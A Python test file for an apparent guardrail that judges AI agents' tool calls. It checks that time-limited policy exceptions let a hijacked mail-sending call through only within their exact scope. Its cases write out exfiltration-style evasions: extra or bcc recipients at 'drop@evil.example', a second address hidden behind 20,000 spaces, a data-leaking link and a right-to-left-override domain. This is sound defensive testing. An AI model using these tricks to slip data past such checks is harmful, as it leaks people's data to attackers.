"""Exceptions people make: which calls pass by them, which do not, and how they end."""

from dataclasses import replace
from datetime import timedelta
from typing import Any
from uuid import uuid4

import pytest
import time_machine
from django.contrib.auth.models import User
from django.core.exceptions import PermissionDenied
from django.utils import timezone

from guardrail import housekeeper
from guardrail.models import Verdict
from investigations.intake import take_in
from investigations.tasks import end_due_exceptions
from policies.access import Role, give_role
from policies.exception_queries import load_exceptions
from policies.exceptions import Scope, overlap
from policies.load import active_ruleset
from policies.models import AuditEntry, Destination, PolicyException
from policies.restrictions import Effect, Restricted
from policies.services.exceptions import ExceptionRefused, WantedException, end_exception, make_exception, renew
from policies.services.publish import changed
from tests.callers import Asking
from tests.restricting import THIEF, decided, hijacked, in_force, planned

pytestmark = pytest.mark.django_db(transaction=True)

AGENT, TOOL = "order-desk", "mail.send"
HERE = Scope(agent_id=AGENT, tool=TOOL, destinations=(THIEF,))


def made(scope: Scope = HERE, *, days: float = 7, **more: Any) -> PolicyException:
    """Make it as the system, and let this process know."""
    now = timezone.now()
    wanted = WantedException(scope=scope, owner="Kim", reason="They are our printer.", until=now + timedelta(days=days))
    found = make_exception(wanted, now=now, actor=more.pop("actor", None))
    housekeeper.refresh()
    return found


def signals() -> dict[str, dict[str, str]]:
    return {found["name"]: dict(found["facts"]) for found in Verdict.objects.latest("id").signals}


def test_what_it_is_for_passes_and_the_finding_stays_in_the_record(asking: Asking) -> None:
    exception = made()
    assert decided(asking, hijacked()) == "allow"
    verdict = Verdict.objects.get()
    assert (verdict.action, verdict.would_have) == ("notice", "notice")
    assert f"let through by exception {exception.pk}" in verdict.reason
    assert signals()["instruction_marked"]["lifted_by"] == f"exception {exception.pk}"


@pytest.mark.parametrize(
    ("why", "body"),
    [
        (
            "another destination",
            hijacked(arguments={"to": "desk@elsewhere.example", "body": "Here is the price list."}),
        ),
        ("one more recipient", hijacked(arguments={"to": f"{THIEF}, drop@evil.example", "body": "The price list."})),
        (
            "one more recipient",
            hijacked(arguments={"to": THIEF, "bcc": "drop@evil.example", "body": "The price list."}),
        ),
        ("one more, beyond what is read", hijacked(arguments={"to": THIEF + " " * 20_000 + ", drop@evil.example"})),
        ("one more, without an address", hijacked(arguments={"to": f"{THIEF}; Everybody outside", "body": "Prices."})),
        ("more than are read", hijacked(arguments={"to": [THIEF] * 60 + ["drop@evil.example"], "body": "Prices."})),
        ("a link", hijacked(arguments={"to": THIEF, "body": "See https://evil.example/take?prices=1"})),
        ("another agent", hijacked(agent={"id": "stock-desk", "name": "Stock Desk"})),
        ("another tool", hijacked(tool={"id": "mail.forward", "name": "forward_mail", "description": "Sends a mail."})),
    ],
)
def test_the_same_attack_elsewhere_stays_stopped(asking: Asking, why: str, body: dict[str, Any]) -> None:
    made()
    text = str(body).replace("Mail the price list to " + THIEF, "Mail the price list to everybody below")
    assert THIEF in text or why == "another destination"
    assert decided(asking, body) in ("block", "ask"), why


def test_colleagues_beside_the_destination_change_nothing(asking: Asking) -> None:
    Destination.objects.create(value="contoso.example", standing="internal")
    changed()
    made()
    assert decided(asking, hijacked(arguments={"to": f"{THIEF}, kim@contoso.example", "body": "Prices."})) == "allow"


def test_honest_calls_are_judged_as_ever(asking: Asking) -> None:
    made()
    assert decided(asking, planned()) == "allow"
    assert "lifted_by" not in str(Verdict.objects.get().signals)


@pytest.mark.parametrize(
    "scope",
    [
        Scope(agent_id=AGENT, tool=TOOL),
        Scope(agent_id=AGENT, tool="send_mail", destinations=("wingtip-archive.example",)),
        Scope(tool=TOOL, destinations=("wingtip-archive.example",), signals=("instruction_marked",)),
        Scope(agent_id=AGENT, argument="to", signals=("instruction_marked",)),
    ],
)
def test_each_scope_lets_what_it_names_pass(asking: Asking, scope: Scope) -> None:
    made(scope)
    assert decided(asking, hijacked()) == "allow"


@pytest.mark.parametrize(
    "scope",
    [
        Scope(agent_id=AGENT, tool=TOOL, signals=("reconnaissance",)),
        Scope(agent_id=AGENT, tool=TOOL, data_classes=("public",)),
        Scope(agent_id=AGENT, tool=TOOL, trigger_id="when-a-mail-arrives"),
        Scope(agent_id=AGENT, argument="body.attachment"),
        Scope(agent_id=AGENT, destinations=("archive.example",)),
    ],
)
def test_no_scope_lets_pass_what_it_does_not_name(asking: Asking, scope: Scope) -> None:
    made(scope)
    assert decided(asking, hijacked()) == "block"


def test_a_restriction_is_never_lifted(asking: Asking) -> None:
    made()
    in_force(Restricted.AGENT, Effect.QUARANTINE, AGENT)
    assert decided(asking, hijacked()) == "block"


@pytest.mark.parametrize("scope", [HERE, Scope(agent_id=AGENT, tool=TOOL)])
def test_a_denial_is_never_lifted(asking: Asking, scope: Scope) -> None:
    made(scope)
    assert decided(asking, hijacked()) == "allow"
    Destination.objects.create(value="wingtip-archive.example", standing="denied")
    changed()
    housekeeper.refresh()
    assert decided(asking, hijacked(2, conversation_id="another")) == "block"
    assert "lifted_by" not in signals()["destination_denied"]
    # what is denied elsewhere takes nothing from it
    Destination.objects.update(value="else.example")
    changed()
    housekeeper.refresh()
    assert decided(asking, hijacked(3, conversation_id="a third")) == "allow"


def test_one_for_a_destination_that_is_denied_is_refused_and_one_denied_since_is_shown(asking: Asking) -> None:
    Destination.objects.create(value="evil.example", standing="denied")
    with pytest.raises(ExceptionRefused, match=r"`kim@evil.example` is denied .* by `evil.example`") as refused:
        made(Scope(agent_id=AGENT, destinations=("kim@evil.example",)))
    assert refused.value.member == "destinations"
    made(Scope(agent_id=AGENT, destinations=("kim@good.example", "ana@good.example")))
    page = load_exceptions(ended=False, before=0, now=timezone.now())
    assert [row.denied for row in (*page.soon, *page.rows)] == [()]
    Destination.objects.create(value="kim@good.example", standing="denied")
    page = load_exceptions(ended=False, before=0, now=timezone.now())
    assert [row.denied for row in (*page.soon, *page.rows)] == [("kim@good.example",)]


def test_a_call_that_could_not_be_judged_is_answered_by_the_fail_posture(asking: Asking) -> None:
    made()
    assert decided(asking, {"agent": {"id": AGENT}, "tool": 5}) == "block"


def test_it_ends_by_the_clock_and_so_for_a_process_that_was_not_told(asking: Asking) -> None:
    exception = made(days=1)
    with time_machine.travel(timezone.now() + timedelta(days=1, minutes=1)):
        # no refresh: as without Postgres
        assert decided(asking, hijacked()) == "block"
        end_due_exceptions()
        end_due_exceptions()
    exception.refresh_from_db()
    assert exception.end == "expired"
    assert AuditEntry.objects.filter(action="exception.expired").count() == 1
    housekeeper.refresh()
    assert not active_ruleset().exceptions.of_agent


def test_a_person_renews_shortens_and_ends_it_with_a_reason(asking: Asking) -> None:
    admin = User.objects.create_user("root")
    give_role(admin, Role.POLICY_ADMIN, actor=None)
    now = timezone.now()
    exception = made(days=2, actor=admin)
    renew(exception.pk, until=now + timedelta(days=30), reason="Still our printer.", now=now, actor=admin)
    renew(exception.pk, until=now + timedelta(days=3), reason="The contract ends.", now=now, actor=admin)
    with pytest.raises(ExceptionRefused, match="sentence"):
        renew(exception.pk, until=now + timedelta(days=4), reason=" ", now=now, actor=admin)
    with pytest.raises(ExceptionRefused, match="within 90 days"):
        renew(exception.pk, until=now + timedelta(days=91), reason="For ever.", now=now, actor=admin)
    end_exception(exception.pk, reason="No more.", now=now, actor=admin)
    with pytest.raises(ExceptionRefused, match="over already"):
        end_exception(exception.pk, reason="No more.", now=now, actor=admin)
    housekeeper.refresh()
    assert decided(asking, hijacked()) == "block"
    told = list(
        AuditEntry.objects.filter(action__startswith="exception.").order_by("pk").values_list("action", flat=True)
    )
    assert told == ["exception.made", "exception.renewed", "exception.shortened", "exception.ended"]


def test_only_who_may_change_policy_makes_one(asking: Asking) -> None:
    analyst = User.objects.create_user("eve")
    give_role(analyst, Role.ANALYST, actor=None)
    with pytest.raises(PermissionDenied):
        made(actor=analyst)
    assert not PolicyException.objects.exists()


@pytest.mark.parametrize(
    ("scope", "member", "said"),
    [
        (Scope(), "agent_id", "neither agent nor tool"),
        (Scope(agent_id=AGENT), "agent_id", "only one thing"),
        (Scope(agent_id=AGENT, signals=("instruction_marked",)), "agent_id", "only one thing"),
        (Scope(destinations=(THIEF,)), "agent_id", "neither agent nor tool"),
        (Scope(agent_id=AGENT, tool=TOOL, signals=("destination_confirmed_malicious",)), "signals", "never lifted"),
        (Scope(agent_id=AGENT, tool=TOOL, signals=("agent_quarantined",)), "signals", "never lifted"),
        (Scope(agent_id=AGENT, tool=TOOL, signals=("destination_denied",)), "signals", "never lifted"),
        (Scope(agent_id=AGENT, destinations=("*.*",)), "destinations", "is no destination"),
        (Scope(agent_id=AGENT, destinations=("\u202eevil",)), "destinations", "unseen"),
        (Scope(agent_id=AGENT, destinations=("gmail.com",)), "destinations", "anybody can have"),
        (Scope(agent_id=AGENT, destinations=("co.uk",)), "destinations", "anybody can have"),
        (Scope(agent_id="a" * 201, tool=TOOL), "agent_id", "201 characters"),
        (Scope(agent_id=AGENT, destinations=tuple(f"d{n}.example" for n in range(51))), "destinations", "at most 50"),
    ],
)
def test_what_would_lift_too_much_or_nothing_is_refused(scope: Scope, member: str, said: str) -> None:
    with pytest.raises(ExceptionRefused, match=said) as refused:
        made(scope)
    assert refused.value.member == member
    assert not PolicyException.objects.exists()


def test_each_call_it_let_pass_counts_once(asking: Asking) -> None:
    exception, other = made(), made(Scope(agent_id="stock-desk", tool=TOOL))
    for step in (1, 2, 2):
        decided(asking, hijacked(step))
    decided(asking, planned())
    now = timezone.now()
    take_in(now)
    take_in(now)
    exception.refresh_from_db()
    other.refresh_from_db()
    assert (exception.hits, exception.last_hit_at) == (2, now)
    assert other.hits == 0


def test_hits_are_kept_for_one_that_is_gone(asking: Asking) -> None:
    exception = made()
    decided(asking, hijacked())
    PolicyException.objects.filter(pk=exception.pk).delete()
    made(Scope(agent_id="stock-desk", tool=TOOL))
    assert take_in(timezone.now()) == 1


@pytest.mark.parametrize(
    ("one", "other", "both"),
    [
        (HERE, Scope(agent_id=AGENT, destinations=("wingtip-archive.example",)), True),
        (HERE, Scope(tool=TOOL, trigger_id="t"), True),
        (HERE, Scope(agent_id="stock-desk", tool=TOOL), False),
        (HERE, Scope(agent_id=AGENT, tool=TOOL, destinations=("else.example",)), False),
        (Scope(agent_id=AGENT, tool=TOOL, signals=("a",)), Scope(agent_id=AGENT, tool=TOOL, signals=("b",)), False),
        (Scope(agent_id=AGENT, argument="to"), Scope(agent_id=AGENT, argument="to[0]"), True),
        (Scope(agent_id=AGENT, argument="to"), Scope(agent_id=AGENT, argument="body"), False),
    ],
)
def test_it_tells_which_overlap(one: Scope, other: Scope, both: bool) -> None:
    assert overlap(one, other) is both
    assert overlap(other, one) is both


def test_a_snapshot_with_an_exception_nobody_could_make_lifts_nothing(asking: Asking) -> None:
    now = timezone.now()
    PolicyException.objects.create(
        agent_id=AGENT, owner="x", reason="x", created_at=now, expires_at=now + timedelta(days=1), verdict_id=uuid4()
    )
    changed()
    housekeeper.refresh()
    assert decided(asking, hijacked()) == "block"


def test_a_stop_for_something_else_keeps_what_comes_again_stopped(asking: Asking) -> None:
    assert decided(asking, hijacked()) == "block"
    made(replace(HERE, signals=("secret_leaving",)))
    assert decided(asking, hijacked(conversation_id="another")) == "block"
    assert "lifted_by" not in signals()["double_request"]
